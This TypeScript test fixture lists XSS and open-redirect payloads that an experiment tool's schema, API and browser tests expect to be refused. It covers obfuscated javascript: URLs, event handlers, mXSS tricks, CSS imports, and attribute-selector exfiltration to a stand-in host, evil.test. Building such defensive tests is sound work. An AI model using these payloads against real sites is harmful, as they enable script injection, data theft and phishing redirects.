/**
 * An attacker's list of experiment changes, in the style of OWASP's XSS Filter Evasion Cheat Sheet
 * and PortSwigger's XSS cheat sheet: event handlers, script-bearing elements and attributes,
 * `javascript:`/`data:`/`vbscript:` URLs spelled with case, whitespace, control characters and
 * character references, CSS that loads or runs code, and redirects off the site. Each entry is a
 * label, the change, and the field a 400 must name (relative to the change).
 *
 * Used by the schema tests (every one refused), the API tests (refused over HTTP with a 400 naming
 * the field) and the browser test (served straight to the tracker: nothing runs).
 */

/** What a payload may do when it runs: set this flag on the page's window. */
export const PWNED = '__pwned';
const js = `top.${PWNED}=1`;

export type Payload = readonly [label: string, change: Record<string, unknown>, field: 'value' | 'name' | 'selector' | 'url'];

const html = (label: string, value: string): Payload => [label, { type: 'html', selector: '#box', value }, 'value'];
const href = (label: string, value: string, name = 'href'): Payload => [label, { type: 'attribute', selector: '#cta', name, value }, 'value'];
const attr = (label: string, name: string, value: string): Payload => [label, { type: 'attribute', selector: '#cta', name, value }, 'name'];
const css = (label: string, value: string): Payload => [label, { type: 'css', value }, 'value'];
const target = (label: string, change: Record<string, unknown>): Payload => [label, change, 'selector'];

export const htmlPayloads: readonly Payload[] = [
  html('img onerror', `<img src=x onerror="${js}">`),
  html('img onerror, upper case', `<IMG SRC=x ONERROR="${js}">`),
  html('img with / instead of spaces', `<img/src=x/onerror=${js}>`),
  html('attribute glued to a quoted value', `<img src="x"onerror="${js}">`),
  html('unclosed tag', `<img src=x onerror=${js}//`),
  html('svg onload', `<svg onload="${js}">`),
  html('script element', `<script>${js}</script>`),
  html('script element, mixed case', `<ScRiPt>${js}</sCrIpT>`),
  html('iframe srcdoc', `<iframe srcdoc="<script>${js}</script>"></iframe>`),
  html('iframe javascript: src', `<iframe src="javascript:${js}"></iframe>`),
  html('a javascript: href', `<a href="javascript:${js}">x</a>`),
  html('a JaVaScRiPt: href', `<a href="JaVaScRiPt:${js}">x</a>`),
  html('a unquoted javascript: href', `<a href=javascript:${js}>x</a>`),
  html("a single-quoted javascript: href", `<a href='javascript:${js}'>x</a>`),
  html('a href with a leading space', `<a href=" javascript:${js}">x</a>`),
  html('a href with a raw tab', `<a href="java\tscript:${js}">x</a>`),
  html('a href with a tab reference', `<a href="java&#x09;script:${js}">x</a>`),
  html('a href with &Tab;', `<a href="&Tab;javascript:${js}">x</a>`),
  html('a href with &NewLine;', `<a href="jav&NewLine;ascript:${js}">x</a>`),
  html('a href with &colon;', `<a href="javascript&colon;${js}">x</a>`),
  html('a href with a decimal reference', `<a href="&#106;avascript:${js}">x</a>`),
  html('a href with a hex reference', `<a href="&#x6A;avascript:${js}">x</a>`),
  html('a href with references without semicolons', `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${js}">x</a>`),
  html('a href with a control-character reference', `<a href="&#1;javascript:${js}">x</a>`),
  html('a href with a raw NUL', `<a href="\u0000javascript:${js}">x</a>`),
  html('a data: href', `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`),
  html('a vbscript: href', `<a href="vbscript:msgbox(1)">x</a>`),
  html('an onclick next to a good href', `<a href="https://example.com/" onclick="${js}">x</a>`),
  html('an onclick in upper case', `<a href="/" ONCLICK="${js}">x</a>`),
  html('img srcset', `<img srcset="javascript:${js}">`),
  html('form action', `<form action="javascript:${js}"><button>x</button></form>`),
  html('button formaction', `<button formaction="javascript:${js}">x</button>`),
  html('object data', `<object data="javascript:${js}"></object>`),
  html('embed src', `<embed src="javascript:${js}">`),
  html('base href', `<base href="https://evil.test/">`),
  html('meta refresh', `<meta http-equiv="refresh" content="0;url=javascript:${js}">`),
  html('link stylesheet', `<link rel="stylesheet" href="https://evil.test/x.css">`),
  html('svg xlink:href', `<svg><a xlink:href="javascript:${js}"><text>x</text></a></svg>`),
  html('math mXSS', `<math><mtext><table><mglyph><style><img src=x onerror="${js}">`),
  html('comment mXSS', `<!--<img src="--><img src=x onerror="${js}//">`),
  html('template', `<template><script>${js}</script></template>`),
  html('noscript breakout', `<noscript><p title="</noscript><img src=x onerror=${js}>">`),
  html('style element', `<style>@import 'https://evil.test/x.css'</style>`),
  html('style attribute with url()', `<div style="background:url(javascript:${js})">x</div>`),
  html('style attribute with expression()', `<div style="width:expression(${js})">x</div>`),
  html('input onfocus autofocus', `<input autofocus onfocus="${js}">`),
  html('details ontoggle', `<details open ontoggle="${js}">`),
  html('video source onerror', `<video><source onerror="${js}"></video>`),
  html('custom element with a handler', `<x-widget onclick="${js}">x</x-widget>`),
  html('a CDATA section', `<![CDATA[<script>${js}</script>]]>`),
  html('a processing instruction', `<?xml version="1.0"?><p>x</p>`),
  html('a doctype', `<!DOCTYPE html><p>x</p>`),
  html('a closing tag with attributes', `<p>x</p onclick="${js}">`),
  html('a repeated attribute', `<a href="/" href="javascript:${js}">x</a>`),
];

export const attributePayloads: readonly Payload[] = [
  attr('onclick', 'onclick', js),
  attr('OnMouseOver', 'OnMouseOver', js),
  attr('onerror', 'onerror', js),
  attr('srcdoc', 'srcdoc', `<script>${js}</script>`),
  attr('formaction', 'formaction', `javascript:${js}`),
  attr('action', 'action', `javascript:${js}`),
  attr('xlink:href', 'xlink:href', `javascript:${js}`),
  attr('style with url()', 'style', `background:url(javascript:${js})`),
  attr('style with expression()', 'style', `width:expression(${js})`),
  attr('srcset', 'srcset', `javascript:${js}`),
  attr('data (object)', 'data', `javascript:${js}`),
  attr('background', 'background', `javascript:${js}`),
  attr('ping', 'ping', 'https://evil.test/'),
  attr('HREF in upper case', 'HREF', `javascript:${js}`),
  href('javascript: href', `javascript:${js}`),
  href('JaVaScRiPt: href', `JaVaScRiPt:${js}`),
  href('href with a tab', `java\tscript:${js}`),
  href('href with a line break', `java\nscript:${js}`),
  href('href with leading spaces', `   javascript:${js}`),
  href('href with a leading NUL', `\u0000javascript:${js}`),
  href('href with a leading control character', `\u0001javascript:${js}`),
  href('href with a decimal reference', `&#106;avascript:${js}`),
  href('href with &colon;', `javascript&colon;${js}`),
  href('data: href', `data:text/html,<script>${js}</script>`),
  href('vbscript: href', 'vbscript:msgbox(1)'),
  href('javascript: src', `javascript:${js}`, 'src'),
  href('data: src', 'data:image/svg+xml,<svg onload=alert(1)>', 'src'),
];

export const targetPayloads: readonly Payload[] = [
  target('text into a script', { type: 'text', selector: 'script', value: js }),
  target('text into a script in the head', { type: 'text', selector: 'head > script', value: js }),
  target('text into SCRIPT', { type: 'text', selector: 'SCRIPT', value: js }),
  target('text into a style', { type: 'text', selector: 'style', value: 'body{background:url(https://evil.test/)}' }),
  target('html into a script among others', { type: 'html', selector: 'div, script', value: 'x' }),
  target('a script inside :is()', { type: 'text', selector: ':is(script)', value: js }),
  target('an escaped script', { type: 'text', selector: 'scr\\69 pt', value: js }),
  target('href of a base', { type: 'attribute', selector: 'base', name: 'href', value: 'https://evil.test/' }),
  target('src of an iframe', { type: 'attribute', selector: 'iframe', name: 'src', value: 'https://evil.test/' }),
  target('href of a link', { type: 'attribute', selector: 'link[rel=icon]', name: 'href', value: 'https://evil.test/x.css' }),
  target('src of an embed', { type: 'attribute', selector: 'embed', name: 'src', value: 'https://evil.test/' }),
  target('an svg link', { type: 'attribute', selector: 'svg a', name: 'href', value: 'https://evil.test/' }),
  target('a meta', { type: 'attribute', selector: 'meta', name: 'title', value: 'x' }),
  target('an object', { type: 'attribute', selector: 'object', name: 'title', value: 'x' }),
];

export const cssPayloads: readonly Payload[] = [
  css('url(javascript:)', `a{background:url(javascript:${js})}`),
  css('URL() to another host', 'a{background:URL("https://evil.test/x.png")}'),
  css('attribute-selector exfiltration', 'input[value^="a"]{background:url(https://evil.test/a)}'),
  css('expression()', `a{width:expression(${js})}`),
  css('@import', "@import 'https://evil.test/x.css';"),
  css('@IMPORT url()', '@IMPORT url(https://evil.test/x.css);'),
  css('@import hidden by a comment', "@im/**/port 'https://evil.test/x.css';"),
  css('image-set()', 'a{background:image-set("https://evil.test/x.png" 1x)}'),
  css('-webkit-image-set()', 'a{background:-webkit-image-set("https://evil.test/x.png" 1x)}'),
  css('src()', 'a{background:src("https://evil.test/x.png")}'),
  css('-moz-binding', 'a{-moz-binding:"https://evil.test/x.xml#x"}'),
  css('behavior', 'a{behavior:"x.htc"}'),
  css('escaped url', 'a{background:u\\72l(https://evil.test/)}'),
  css('a </style> breakout', `a{color:red}</style><script>${js}</script>`),
  css('a NUL', 'a{color:red}\u0000'),
];

export const redirectPayloads: readonly Payload[] = [
  ['javascript: redirect', { type: 'redirect', url: `javascript:${js}` }, 'url'],
  ['JAVASCRIPT: redirect', { type: 'redirect', url: `JAVASCRIPT:${js}` }, 'url'],
  ['redirect with a leading space', { type: 'redirect', url: ` javascript:${js}` }, 'url'],
  ['redirect with a tab', { type: 'redirect', url: `java\tscript:${js}` }, 'url'],
  ['data: redirect', { type: 'redirect', url: `data:text/html,<script>${js}</script>` }, 'url'],
  ['vbscript: redirect', { type: 'redirect', url: 'vbscript:msgbox(1)' }, 'url'],
  ['protocol-relative redirect', { type: 'redirect', url: '//evil.test/' }, 'url'],
];

/** Redirects off `example.com` (the site) that only a host an owner allows could make valid. */
export const offSiteRedirects: readonly string[] = [
  'https://evil.test/',
  'http://evil.test/login',
  '/\\evil.test/',
  'https://example.com@evil.test/',
  'https://evil.test\\@example.com/',
  'https://example.com.evil.test/',
  'https://notexample.com/',
  'https://evil.test%2F@example.com/',
  'https://user:secret@example.com/',
];

/** Every payload above, for the API and the browser. */
export const allPayloads: readonly Payload[] = [...htmlPayloads, ...attributePayloads, ...targetPayloads, ...cssPayloads, ...redirectPayloads];
